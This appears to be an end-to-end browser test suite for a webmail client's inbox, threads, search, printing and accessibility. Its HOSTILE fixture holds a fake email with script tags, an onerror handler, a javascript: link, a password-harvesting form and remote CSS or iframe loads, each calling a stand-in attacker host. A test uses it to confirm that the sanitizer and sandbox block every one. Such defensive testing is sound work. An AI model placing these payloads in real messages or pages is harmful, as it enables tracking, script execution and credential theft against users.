import type { Browser, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type ExternalSites, startExternalSites } from './elsewhere.ts'
import { findAccessibilityIssues, findDarkModeIssues, ON_TOP } from './faults.ts'
import {
  expectOpen,
  expectToast,
  type Mailbox,
  mailLink,
  mailRow,
  openMailbox,
  subjects,
  undo,
} from './mailbox.ts'
import { createPng } from './pictures.ts'
import { type Service, startService } from './service.ts'
import {
  openBrowser,
  openPage,
  PASSWORD,
  pageWidth,
  signUp,
  type Visitor,
  visit,
  withBrowser,
} from './visitor.ts'

const HOUR_MS = 3_600_000
const hoursAgo = (hours: number): string => new Date(Date.now() - hours * HOUR_MS).toISOString()
const focusedSubject = (page: Page) =>
  page.evaluate("document.activeElement.querySelector('.mail-subject')?.textContent ?? null")

const HOSTILE = [
  'From: Mallory <mallory@evil.example>',
  'To: ana@example.org',
  'Subject: You have won',
  'Date: Mon, 2 Mar 2020 10:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Hello <b>winner</b></p>',
  '<script>top.postMessage("ran", "*"); document.title = "ran"; fetch("https://evil.example/script")</script>',
  '<img src="https://tracker.evil.example/pixel.png" width="300" height="40" alt="logo">',
  '<img src="x" onerror="fetch(\'https://evil.example/onerror\')">',
  '<div style="background-image:url(https://evil.example/background.png)">styled</div>',
  '<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/i.css";</style>',
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>',
  '<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
  '<a href="javascript:fetch(\'https://evil.example/link\')">run</a>',
  '<a href="https://harmless.example/page">a page</a>',
]

withBrowser('console mail', () => {
  let service: Service
  let browser: Browser
  let visitor: Visitor
  let page: Page
  let mailbox: Mailbox
  let externalSites: ExternalSites

  let finishLateImage = (): void => {}
  const lateImage = new Promise<void>((resolve) => {
    finishLateImage = resolve
  })

  beforeAll(async () => {
    service = await startService()
    externalSites = await startExternalSites(async (address) => {
      if (address.includes('late.png')) await lateImage
      return address.endsWith('.png')
        ? { type: 'image/png', body: createPng(300, [200, 30, 30]) }
        : { type: 'text/html', body: '<title>there</title>' }
    })
    browser = await openBrowser(...externalSites.flags)
    visitor = await visit(browser, service.url)
    page = visitor.page
    mailbox = openMailbox(service)
    await signUp(visitor, '/tasks')
  })
  afterAll(async () => {
    await browser?.close()
    externalSites?.close()
    await service?.stop()
  })

  it('loads the inbox with at most 20 requests and 250 kB', async () => {
    // A new context has an empty cache.
    const { page: fresh, context } = await visit(browser, service.url)
    const { request } = context
    const requests: Request[] = []
    const ben = { email: 'ben@example.org', password: PASSWORD }
    // The response sets the cookie of the session.
    await request.post('/api/auth/register', {
      headers: { 'x-session': 'cookie' },
      data: { name: 'Ben', ...ben },
    })
    const signedIn = await request.post('/api/auth/login', { data: ben })
    const { token } = await signedIn.json()
    const headers = { authorization: `Bearer ${token}` }
    for (const subject of ['One', 'Two'])
      await request.post('/api/emails', {
        headers,
        data: { from: 'ana@example.org', subject, text: 'Hello' },
      })
    await fresh.addInitScript("localStorage.setItem('factotum.signed-in', 'yes')")
    fresh.on('request', (request) => requests.push(request))
    await fresh.goto('/mail')
    await fresh.getByRole('heading', { name: 'Mail', level: 1 }).waitFor()
    await fresh.waitForFunction("!document.querySelector('[aria-busy=true]')")
    // The event stream does not end.
    const finished = requests.filter((request) => !request.url().endsWith('/api/events'))
    const sizes = finished.map(async (request) => {
      await (await request.response())?.finished()
      const { responseBodySize, responseHeadersSize } = await request.sizes()
      return responseBodySize + responseHeadersSize
    })
    const bytes = (await Promise.all(sizes)).reduce((sum, size) => sum + size, 0)
    expect(requests.length, requests.map((each) => each.url()).join('\n')).toBeLessThanOrEqual(20)
    expect(bytes).toBeGreaterThan(100_000)
    expect(bytes).toBeLessThanOrEqual(250_000)
    await context.close()
  })

  it('opens by keyboard and shows how to start', async () => {
    await page.keyboard.press('g')
    await page.keyboard.press('m')
    await page.getByText('No email account yet').waitFor()
    expect(await page.getByRole('link', { name: 'Add email account' }).getAttribute('href')).toBe(
      '/settings/mail-accounts',
    )
    await expect.poll(() => page.getByRole('heading', { level: 1 }).innerText()).toBe('Mail')
    expect(await findAccessibilityIssues(page)).toEqual([])
    await page.getByRole('navigation', { name: 'Folders' }).getByRole('link', { name: 'Trash' }).click()
    await page.getByText('Trash is empty').waitFor()
  })

  it('lists mail with the newest first and counts unread mail', async () => {
    await mailbox.put({
      from: 'Ines Falk <ines@falk.example>',
      to: ['Ana <ana@example.org>'],
      cc: ['Tom Weber <tom@example.org>'],
      subject: 'Drawings',
      text: 'The drawings are done. Look at the ground floor: https://falk.example/plan.',
      messageId: 'one@falk.example',
      date: hoursAgo(30),
      tags: ['work'],
      read: true,
    })
    await mailbox.put({
      folder: 'sent',
      from: 'Ana <ana@example.org>',
      to: ['Ines Falk <ines@falk.example>'],
      subject: 'Re: Drawings',
      text: 'The staircase is too steep.',
      messageId: 'two@example.org',
      inReplyTo: 'one@falk.example',
      date: hoursAgo(20),
    })
    await mailbox.put({
      from: 'Ines Falk <ines@falk.example>',
      to: ['Ana <ana@example.org>'],
      subject: 'Re: Drawings',
      text: 'Turning it works.\n\nOn Monday Ana <ana@example.org> wrote:\n> The staircase is too steep.',
      messageId: 'three@falk.example',
      inReplyTo: 'two@example.org',
      date: hoursAgo(2),
      tags: ['work', 'lindenhof'],
    })
    await mailbox.put({
      from: 'Bank <bank@example.org>',
      subject: 'Your statement',
      text: 'Here.',
      date: hoursAgo(4),
    })
    await mailbox.put({
      from: 'Choir <choir@example.org>',
      subject: 'Rehearsal',
      text: 'At eight.',
      date: hoursAgo(6),
    })
    await page.goto('/mail')
    await mailLink(page, 'Rehearsal').waitFor()
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings', 'Your statement', 'Rehearsal'])
    await mailRow(page, 'Re: Drawings').getByText('2 emails').waitFor()
    expect((await mailRow(page, 'Re: Drawings').boundingBox())?.height).toBe(40)
    await page.getByRole('link', { name: 'Inbox , 3 unread' }).waitFor()
    await expect.poll(() => page.title()).toBe('Inbox (3) · Mail · Factotum')
  })

  it('remembers the comfortable list', async () => {
    const height = async () => (await mailRow(page, 'Rehearsal').boundingBox())?.height ?? 0
    const comfortable = page.getByRole('button', { name: 'Comfortable list' })
    await comfortable.click()
    await expect.poll(height).toBeGreaterThan(80)
    expect(await findAccessibilityIssues(page)).toEqual([])
    await page.reload()
    await expect.poll(height).toBeGreaterThan(80)
    await comfortable.click()
    await expect.poll(height).toBe(40)
  })

  it('shows a thread, marks it as read, and undoes that', async () => {
    await mailLink(page, 'Re: Drawings').click()
    await expectOpen(page, 'Re: Drawings')
    await expect.poll(() => page.title()).toBe('Re: Drawings · Factotum')
    await expect.poll(() => page.evaluate('document.activeElement.id')).toBe('thread-subject')
    const last = page.getByRole('article', { name: 'From Ines Falk' }).last()
    await last.getByText('Turning it works.').waitFor()
    await expect.poll(() => page.getByRole('article').count()).toBe(3)
    await expect.poll(() => mailRow(page, 'Re: Drawings').getAttribute('data-read')).toBe('true')
    await page.getByRole('link', { name: 'Inbox , 2 unread' }).waitFor()
    await page.keyboard.press('u')
    await expect.poll(() => mailRow(page, 'Re: Drawings').getAttribute('data-read')).toBe('false')
    await page.getByRole('button', { name: 'Mark as read' }).last().click()
    await page.getByRole('button', { name: 'Mark as unread' }).last().waitFor()
  })

  it('collapses quoted text and opens earlier messages', async () => {
    const last = page.getByRole('article', { name: 'From Ines Falk' }).last()
    expect(await last.getByText('The staircase is too steep.').count()).toBe(0)
    await last.getByRole('button', { name: 'Show quoted text' }).click()
    await last.getByText('The staircase is too steep.').waitFor()
    const first = page.getByRole('article', { name: 'From Ines Falk' }).first()
    await first.locator('.message-toggle').click()
    const link = first.getByRole('link', { name: 'https://falk.example/plan' })
    expect(await link.getAttribute('href')).toBe('https://falk.example/plan')
    expect(await link.getAttribute('rel')).toContain('noopener')
  })

  it('supports navigating, starring, archiving and deleting by keyboard, with undo', async () => {
    await page.goto('/mail')
    await mailLink(page, 'Rehearsal').waitFor()
    await page.keyboard.press('j')
    await expect.poll(() => focusedSubject(page)).toBe('Re: Drawings')
    await page.keyboard.press('j')
    await expect.poll(() => focusedSubject(page)).toBe('Your statement')
    await page.keyboard.press('s')
    await expect
      .poll(() =>
        mailRow(page, 'Your statement').getByRole('button', { name: /^Star/ }).getAttribute('aria-pressed'),
      )
      .toBe('true')
    await page.keyboard.press('e')
    await expectToast(page, '“Your statement” archived')
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings', 'Rehearsal'])
    // The next mail receives the focus.
    await expect.poll(() => focusedSubject(page)).toBe('Rehearsal')
    await page.keyboard.press('#')
    await expectToast(page, '“Rehearsal” moved to trash')
    await undo(page, '“Rehearsal” moved to trash')
    await undo(page, '“Your statement” archived')
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings', 'Your statement', 'Rehearsal'])
    await mailLink(page, 'Your statement').focus()
    await page.keyboard.press('Enter')
    await expectOpen(page, 'Your statement')
    await page.keyboard.press('j')
    await expectOpen(page, 'Rehearsal')
    await page.keyboard.press('k')
    await expectOpen(page, 'Your statement')
    await page.keyboard.press('Escape')
    await page.locator('.mail-reading').waitFor({ state: 'hidden' })
    await expect.poll(() => focusedSubject(page)).toBe('Your statement')
  })

  it('finds mail by words and operators, which a popover explains', async () => {
    await page.keyboard.press('/')
    await page.keyboard.type('staircase')
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings'])
    await expect.poll(() => page.locator('.mail-snippet mark').count()).toBeGreaterThan(0)
    await page.getByRole('button', { name: 'Only Inbox' }).click()
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings'])
    await page.getByRole('searchbox').fill('from:choir')
    await expect.poll(() => subjects(page)).toEqual(['Rehearsal'])
    await page.getByRole('searchbox').fill('zebra"((')
    await page.getByText('No emails found').waitFor()
    await page.getByRole('button', { name: 'Search operators' }).click()
    await page.getByRole('button', { name: /^tag:work/ }).click()
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings'])
    await page.getByRole('searchbox').fill('')
    await expect.poll(async () => (await subjects(page)).length).toBe(3)
  })

  it('filters by tag and unread mail, and goes back', async () => {
    await page.getByRole('button', { name: 'Tags' }).click()
    await page.getByRole('menuitem', { name: '#lindenhof' }).click()
    await expect.poll(() => subjects(page)).toEqual(['Re: Drawings'])
    await page.goBack()
    await expect.poll(async () => (await subjects(page)).length).toBe(3)
    await expect.poll(() => mailRow(page, 'Rehearsal').getAttribute('data-read')).toBe('true')
    await mailLink(page, 'Rehearsal').focus()
    await page.keyboard.press('u')
    await expect.poll(() => mailRow(page, 'Rehearsal').getAttribute('data-read')).toBe('false')
    await page.getByRole('button', { name: 'Unread', exact: true }).click()
    await expect.poll(() => subjects(page)).toEqual(['Rehearsal'])
    await page.getByRole('button', { name: 'Unread', exact: true }).click()
    await expect.poll(async () => (await subjects(page)).length).toBe(3)
  })

  it('sends quick changes in order, and reloads a list that was read before they were stored', async () => {
    const sentValues: boolean[] = []
    let release = (): void => {}
    const held = new Promise<void>((resolve) => {
      release = resolve
    })
    await page.route(/\/api\/threads$/, async (route) => {
      if (route.request().method() === 'PATCH') {
        sentValues.push((route.request().postDataJSON() as { change: { read: boolean } }).change.read)
        await held
      }
      await route.continue()
    })
    await mailLink(page, 'Your statement').focus()
    for (const isRead of ['false', 'true', 'false']) {
      await page.keyboard.press('u')
      await expect.poll(() => mailRow(page, 'Your statement').getAttribute('data-read')).toBe(isRead)
    }
    await page.getByRole('button', { name: 'Unread', exact: true }).click()
    await expect.poll(() => subjects(page)).toEqual(['Rehearsal'])
    expect(sentValues).toEqual([false])
    release()
    await expect.poll(() => subjects(page)).toEqual(['Your statement', 'Rehearsal'])
    await expect.poll(() => sentValues).toEqual([false, true, false])
    await page.unroute(/\/api\/threads$/)
    await page.getByRole('button', { name: 'Unread', exact: true }).click()
    await expect.poll(async () => (await subjects(page)).length).toBe(3)
  })

  it('adds and removes tags while reading', async () => {
    await mailLink(page, 'Rehearsal').click()
    await expectOpen(page, 'Rehearsal')
    await page.getByRole('button', { name: 'Add tag', exact: true }).click()
    await page.keyboard.type('music')
    await page.keyboard.press('Enter')
    await mailRow(page, 'Rehearsal').getByText('#music').waitFor()
    await page.getByRole('button', { name: 'Remove tag music' }).click()
    await expect.poll(() => mailRow(page, 'Rehearsal').getByText('#music').count()).toBe(0)
  })

  it('runs no scripts of a hostile message and makes no requests for it', async () => {
    const { id } = await mailbox.raw(HOSTILE)
    // An open event stream would prevent the network from becoming idle.
    await visitor.context.route('**/api/events', (route) => route.fulfill({ status: 204 }))
    await page.goto(`/mail/inbox/${id}`)
    await expectOpen(page, 'You have won')
    const frame = page.frameLocator('.message-frame')
    await frame.getByText('winner').waitFor()
    const sandbox = (await page.locator('.message-frame').getAttribute('sandbox')) ?? ''
    expect(sandbox.split(' ').toSorted()).toEqual([
      'allow-popups',
      'allow-popups-to-escape-sandbox',
      'allow-same-origin',
    ])
    await page.waitForLoadState('networkidle')
    expect(externalSites.asked).toEqual([])
    await expect.poll(() => page.title()).toBe('You have won · Factotum')
    expect(await frame.locator('script, form, iframe, object, link, style, [onerror]').count()).toBe(0)
    expect(await frame.getByText('run', { exact: true }).getAttribute('href')).toBeNull()
    // The policy would block even a script that passed the sanitizer.
    const policy = await frame.locator('meta[http-equiv]').getAttribute('content')
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toContain('https:')
  })

  it('loads only the images of the message when asked', async () => {
    await page.getByRole('button', { name: 'Load images' }).click()
    const picture = page.frameLocator('.message-frame').getByAltText('logo')
    await expect.poll(async () => (await picture.boundingBox())?.width).toBe(300)
    await page.waitForLoadState('networkidle')
    expect([...new Set(externalSites.asked)].toSorted()).toEqual([
      'https://evil.example/background.png',
      'https://tracker.evil.example/pixel.png',
    ])
  })

  it('resizes the frame when a slow image arrives', async () => {
    const { id } = await mailbox.raw([
      'From: Slow Shop <shop@slow.example>',
      'To: ana@example.org',
      'Subject: Slowly',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<img src="https://slow.example/late.png" alt="late"><p>The end.</p>',
      '',
    ])
    const slow = await visitor.context.newPage()
    await slow.clock.install()
    await slow.goto(`/mail/inbox/${id}`)
    const asked = slow.waitForRequest('https://slow.example/late.png')
    await slow.getByRole('button', { name: 'Load images' }).click()
    await asked
    await slow.clock.fastForward(8_000)
    const picture = slow.frameLocator('.message-frame').getByAltText('late')
    await expect.poll(() => picture.getAttribute('src')).toBe('https://slow.example/late.png')
    finishLateImage()
    await expect.poll(async () => (await picture.boundingBox())?.width).toBe(300)
    const outer = await slow.locator('.message-frame').boundingBox()
    expect(outer?.height).toBeGreaterThan(300)
    await slow.close()
    await fetch(`${service.url}/api/emails/${id}`, { method: 'DELETE' })
  })

  it('opens links of a message in a tab without opener and referrer', async () => {
    const coming = visitor.context.waitForEvent('page')
    await page.frameLocator('.message-frame').getByText('a page').click()
    const other = await coming
    await other.waitForURL('https://harmless.example/page')
    expect(await other.evaluate('[window.opener, document.referrer]')).toEqual([null, ''])
    await other.close()
  })

  it('shows inline images and attachments in a frame of the right height', async () => {
    const picture = createPng(120, [30, 90, 200]).toString('base64')
    const { id } = await mailbox.raw([
      'From: Blue Shop <shop@blue.example>',
      'To: ana@example.org',
      'Subject: Your order',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      'Content-Type: multipart/related; boundary=r',
      '',
      '--r',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<img src="cid:lamp@blue" alt="lamp">${'<p>A line of the order.</p>'.repeat(30)}<p>The end.</p>`,
      '<div>On Monday Ana wrote:</div><blockquote>Where is it?</blockquote>',
      '--r',
      'Content-Type: image/png',
      'Content-ID: <lamp@blue>',
      'Content-Disposition: inline; filename=lamp.png',
      'Content-Transfer-Encoding: base64',
      '',
      picture,
      '--r--',
      '--m',
      'Content-Type: text/csv; name=order.csv',
      'Content-Disposition: attachment; filename=order.csv',
      '',
      'lamp,2',
      '--m--',
      '',
    ])
    await page.goto(`/mail/inbox/${id}`)
    const frame = page.frameLocator('.message-frame')
    const lamp = frame.getByAltText('lamp')
    await lamp.waitFor()
    await expect.poll(async () => (await lamp.boundingBox())?.height).toBe(120)
    const outer = await page.locator('.message-frame').boundingBox()
    const inner = await frame.locator('html').boundingBox()
    const end = await frame.getByText('The end.').boundingBox()
    expect(Math.abs((outer?.height ?? 0) - (inner?.height ?? 0))).toBeLessThan(4)
    expect((end?.y ?? 0) + (end?.height ?? 0)).toBeLessThanOrEqual((outer?.y ?? 0) + (outer?.height ?? 0) + 1)
    expect(await frame.getByText('Where is it?').count()).toBe(0)
    await page.getByRole('button', { name: 'Show quoted text' }).click()
    await frame.getByText('Where is it?').waitFor()
    const coming = page.waitForEvent('download')
    await page.getByRole('button', { name: /^Download order\.csv, \d+ B$/ }).click()
    expect((await coming).suggestedFilename()).toBe('order.csv')
    await page.getByRole('button', { name: 'More actions for the email from Blue Shop' }).click()
    await page.getByRole('menuitem', { name: 'Show as plain text' }).click()
    await page.locator('.message-text').getByText('The end.').waitFor()
    await expect.poll(() => page.locator('.message-frame').count()).toBe(0)
  })

  it('prints an email alone, with its absolute date', async () => {
    await page.goto('/mail')
    await mailLink(page, 'Your order').click()
    await page.frameLocator('.message-frame').getByAltText('lamp').waitFor()
    await page.emulateMedia({ media: 'print' })
    await page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    const message = page.getByRole('article', { name: 'From Blue Shop' })
    await message.getByText('The end.').waitFor()
    const width = () =>
      message
        .getByAltText('lamp')
        .evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth)
    await expect.poll(width).toBe(120)
    const details = message.locator('.message-details')
    expect(await details.innerText()).toContain('Blue Shop <shop@blue.example>')
    expect(await details.innerText()).toMatch(/[A-Z][a-z]{2} \d{1,2}, \d{4}, \d{1,2}:\d{2}/)
    for (const name of ['Reply', 'Print', 'Archive', 'Add tag'])
      expect(await page.getByRole('button', { name, exact: true }).count()).toBe(0)
    expect(
      await page.locator('.mail-list, .message-frame, .insight, nav').filter({ visible: true }).count(),
    ).toBe(0)
    await page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    await expect.poll(() => message.getByText('The end.').count()).toBe(0)
    await page.emulateMedia({ media: null })
  })

  it('prints on one page in portrait and landscape', async () => {
    await openPage(page, '/mail')
    await mailLink(page, 'Rehearsal').click()
    await page.getByText('At eight.').last().waitFor()
    for (const landscape of [false, true]) {
      const pdf = (await page.pdf({ format: 'A4', landscape })).toString('latin1')
      expect(pdf.match(/\/Type\s*\/Page\b/g)).toHaveLength(1)
    }
  })

  it('prints one email of a conversation, or all that are open', async () => {
    await openPage(page, '/mail')
    await mailLink(page, 'Re: Drawings').click()
    await page.getByRole('article').first().locator('.message-toggle').click()
    await page.evaluate(`window.print = () => {
      window.printed = document.querySelectorAll('.message[data-printed="true"]').length
    }`)
    await page.getByRole('toolbar', { name: 'Email actions' }).getByRole('button', { name: 'Print' }).click()
    expect(await page.evaluate('window.printed')).toBe(2)
    await page.getByRole('button', { name: 'More actions for the email from Ines Falk' }).last().click()
    await page.getByRole('menuitem', { name: 'Print' }).click()
    await expect.poll(() => page.evaluate('window.printed')).toBe(1)
  })

  it('tags several mails at once, with undo', async () => {
    await openPage(page, '/mail')
    await page.getByRole('checkbox', { name: 'Select Your order, Blue Shop' }).check()
    await page.getByRole('checkbox', { name: 'Select Rehearsal, Choir' }).check()
    await page.getByRole('button', { name: 'Add tag' }).click()
    const popover = page.getByRole('dialog', { name: 'Add tag' })
    await popover.getByLabel('New tag').fill('#later')
    expect(await findAccessibilityIssues(page, ON_TOP)).toEqual([])
    await page.keyboard.press('Enter')
    await expectToast(page, '#later added to 2 emails')
    await mailRow(page, 'Rehearsal').getByText('#later').waitFor()
    await undo(page, '#later added to 2 emails')
    await expect.poll(() => page.locator('.mail-row', { hasText: '#later' }).count()).toBe(0)
  })

  it('selects and archives several mails at once', async () => {
    await openPage(page, '/mail')
    await mailLink(page, 'Rehearsal').waitFor()
    await page.getByRole('checkbox', { name: 'Select Your order, Blue Shop' }).check()
    await page.getByRole('checkbox', { name: 'Select Rehearsal, Choir' }).click({ modifiers: ['Shift'] })
    await page.getByText('4 selected').waitFor()
    await page
      .getByRole('toolbar', { name: 'Selected emails' })
      .getByRole('button', { name: 'Archive' })
      .click()
    await expectToast(page, '4 emails archived')
    await expect.poll(() => subjects(page)).toEqual(['You have won'])
    await undo(page, '4 emails archived')
    await expect.poll(async () => (await subjects(page)).length).toBe(5)
  })

  it('deletes permanently only from the trash and after confirmation', async () => {
    await mailLink(page, 'You have won').focus()
    await page.keyboard.press('#')
    await expectToast(page, '“You have won” moved to trash')
    await openPage(page, '/mail/trash')
    await mailLink(page, 'You have won').focus()
    await page.keyboard.press('#')
    const dialog = page.getByRole('alertdialog', { name: 'Delete “You have won” permanently?' })
    await dialog.getByRole('button', { name: 'Delete permanently' }).click()
    await page.getByText('Trash is empty').waitFor()
    await undo(page, '“You have won” deleted')
    await mailLink(page, 'You have won').focus()
    await page.keyboard.press('#')
    await dialog.getByRole('button', { name: 'Delete permanently' }).click()
    await page.getByText('Trash is empty').waitFor()
    // Dismissing the undo offer deletes at once.
    const toast = page.locator('.toast', { hasText: '“You have won” deleted' }).first()
    await Promise.all([
      page.waitForResponse((response) => response.url().endsWith('/api/threads/delete') && response.ok()),
      toast.locator('.toast-close').click(),
    ])
    await page.reload()
    await page.getByText('Trash is empty').waitFor()
  })

  it('loads more mail while scrolling', async () => {
    const mails = Array.from({ length: 120 }, (_, number) =>
      mailbox.put({ from: 'a@b.example', subject: `Letter ${number}`, date: hoursAgo(1000 + number) }),
    )
    await Promise.all(mails)
    await page.goto('/mail')
    await mailLink(page, 'Rehearsal').waitFor()
    const rows = page.locator('.mail-row')
    // Only the rows near the visible part exist, and the number of all rows is not known yet.
    await expect.poll(() => rows.count()).toBeLessThan(50)
    expect(await rows.first().getAttribute('aria-setsize')).toBe('-1')
    await expect
      .poll(async () => {
        await rows.last().scrollIntoViewIfNeeded()
        return rows.last().getAttribute('aria-posinset')
      })
      .toBe('124')
    expect(await rows.last().getAttribute('aria-setsize')).toBe('124')
    expect(await rows.count()).toBeLessThan(50)
    expect(await page.getByRole('button', { name: 'Load older emails' }).count()).toBe(0)
  })

  it('keeps the focused row while the list scrolls, and the Tab key reaches the end', async () => {
    const scrollTo = (top: number) =>
      page.evaluate(`document.querySelector('.mail-scroll').scrollTo(0, ${top})`)
    const rows = page.locator('.mail-row')
    await scrollTo(0)
    await mailLink(page, 'Rehearsal').focus()
    await scrollTo(1_000_000)
    await expect.poll(() => rows.last().getAttribute('aria-posinset')).toBe('124')
    expect(await focusedSubject(page)).toBe('Rehearsal')
    const next = (await subjects(page))[(await subjects(page)).indexOf('Rehearsal') + 1]
    await page.keyboard.press('j')
    await expect.poll(() => focusedSubject(page)).toBe(next)
    await expect
      .poll(() => page.evaluate("document.querySelector('.mail-scroll').scrollTop < 900"))
      .toBe(true)
    // Each row has a checkbox, a link and a star.
    const position = () =>
      page.evaluate("Number(document.activeElement.closest('.mail-row')?.ariaPosInSet ?? 0)")
    const start = Number(await position())
    for (let step = 0; step < 90; step += 1) await page.keyboard.press('Tab')
    expect(await position()).toBe(start + 30)
    await rows.nth(-1).getByRole('link').focus()
    await scrollTo(1_000_000)
    await expect.poll(() => rows.last().getAttribute('aria-posinset')).toBe('124')
    await rows.last().getByRole('link').focus()
    for (let step = 0; step < 2; step += 1) await page.keyboard.press('Tab')
    expect(await position()).toBe(0)
  })

  it('shows new mail at the top, and does not move the rows that are being read', async () => {
    // A test above replaced the event stream.
    await visitor.context.unroute('**/api/events')
    await page.goto('/mail')
    await page.locator('.live-sign[data-state="live"]').waitFor({ state: 'attached' })
    await mailLink(page, 'Rehearsal').waitFor()
    const position = async (subject: string) =>
      Number(await mailRow(page, subject).getAttribute('aria-posinset'))
    const offsetOf = async (subject: string) => (await mailRow(page, subject).boundingBox())?.y ?? 0
    await page.evaluate("document.querySelector('.mail-scroll').scrollTo(0, 700)")
    await mailRow(page, 'Letter 18').waitFor()
    const middle = 'Letter 18'
    const at = await position(middle)
    const before = await offsetOf(middle)
    await mailbox.put({ from: 'a@b.example', subject: 'Just in', date: hoursAgo(0) })
    await expect.poll(() => position(middle)).toBe(at + 1)
    expect(Math.abs((await offsetOf(middle)) - before)).toBeLessThan(2)
    await page.evaluate("document.querySelector('.mail-scroll').scrollTo(0, 0)")
    await mailRow(page, 'Just in').waitFor()
  })

  it('has no accessibility issues in light and dark mode, nor on a small screen', async () => {
    await openPage(page, '/mail')
    await mailLink(page, 'Your order').click()
    await page.frameLocator('.message-frame').getByText('The end.').waitFor()
    expect(await findAccessibilityIssues(page)).toEqual([])
    expect(await findDarkModeIssues(page)).toEqual([])
    await page.setViewportSize({ width: 360, height: 740 })
    await mailLink(page, 'Your order').waitFor({ state: 'hidden' })
    await expect.poll(() => pageWidth(page)).toBe(360)
    expect(await findAccessibilityIssues(page)).toEqual([])
    await page.getByRole('button', { name: 'Back' }).click()
    await mailLink(page, 'Your order').waitFor()
    await expect.poll(() => pageWidth(page)).toBe(360)
    expect(await findAccessibilityIssues(page)).toEqual([])
  })

  it('keeps the reply form inside the window for long names and subjects', async () => {
    await page.setViewportSize({ width: 1280, height: 900 })
    const from = { name: 'Endless '.repeat(25).trim(), address: 'endless@example.org' }
    const made = await visitor.context.request.post('/api/emails', {
      data: { from, to: ['ana@example.org'], subject: 'x'.repeat(300), text: 'y'.repeat(500) },
    })
    const { id } = (await made.json()) as { id: number }
    await openPage(page, `/mail/inbox/${id}`)
    await page.getByRole('button', { name: 'Reply', exact: true }).first().click()
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor()
    // The right half would be cut off outside the window.
    const rightEdge = async (): Promise<number> => {
      const { x = 0, width = 9_999 } = (await page.locator('.composer').boundingBox()) ?? {}
      return x + width
    }
    await expect.poll(rightEdge).toBeLessThan(1280)
    await visitor.context.request.delete(`/api/emails/${id}`)
  })

  it('causes no browser errors', () => {
    // The test itself causes this warning when it inspects the sandboxed frame.
    const isCausedByTest = /^Blocked script execution in/
    expect(visitor.browserErrors.filter((error) => !isCausedByTest.test(error))).toEqual([])
  })
})
